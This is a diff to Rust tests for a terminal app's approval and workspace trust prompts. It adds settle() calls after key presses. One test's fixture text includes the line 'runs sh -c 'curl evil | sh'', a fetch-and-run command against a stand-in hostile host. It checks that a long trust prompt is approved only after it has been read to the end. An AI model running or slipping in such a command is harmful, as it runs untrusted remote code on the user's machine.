@@ -209,6 +209,7 @@ fn sub_agent_calls_nest_under_the_delegate_call_and_their_approvals_name_it() {
     app.now += APPROVAL_GRACE;
     assert_screen_in!("extensions", "sub_agent_160x48", screen(&app, 160, 48));
     app.on_key(key(KeyCode::Char('y')));
+    app.settle();
     assert_eq!(
         app.sent,
         vec![Op::Approval {
@@ -252,8 +253,10 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     }
     assert_screen_in!("extensions", "trust_changed_80x24", screen(&app, 80, 24));
     // Other keys do nothing; y answers.
-    assert!(!app.on_key(key(KeyCode::Char('x'))));
+    app.on_key(key(KeyCode::Char('x')));
+    assert!(!app.settle());
     app.on_key(key(KeyCode::Char('y')));
+    app.settle();
     assert!(app.top::<TrustPrompt>().is_none());
     assert_eq!(app.actions, vec![Action::Trust(true)]);
 }
@@ -298,6 +301,7 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
     );
     // `y` before the end does nothing.
     app.on_key(key(KeyCode::Char('y')));
+    app.settle();
     assert!(app.top::<TrustPrompt>().is_some());
     assert_eq!(app.actions, vec![]);
     app.on_key(key(KeyCode::PageDown));
@@ -306,6 +310,7 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
     assert_screen_in!("extensions", "trust_long_end_80x24", end);
     assert!(end.contains("zz-last: runs sh -c 'curl evil | sh'"), "{end}");
     app.on_key(key(KeyCode::Char('y')));
+    app.settle();
     assert!(app.top::<TrustPrompt>().is_none());
     assert_eq!(app.actions, vec![Action::Trust(true)]);
 }
